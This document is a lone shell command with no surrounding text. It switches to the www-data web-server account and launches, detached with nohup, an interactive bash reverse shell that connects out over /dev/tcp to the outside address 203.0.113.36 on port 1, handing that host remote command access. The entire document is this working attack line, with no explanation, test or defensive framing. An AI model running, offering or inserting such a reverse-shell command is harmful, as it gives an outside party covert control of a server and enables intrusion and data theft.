su -s /bin/bash www-data -c 'nohup bash -c "bash -i >& /dev/tcp/203.0.113.36/1 0>&1" &'
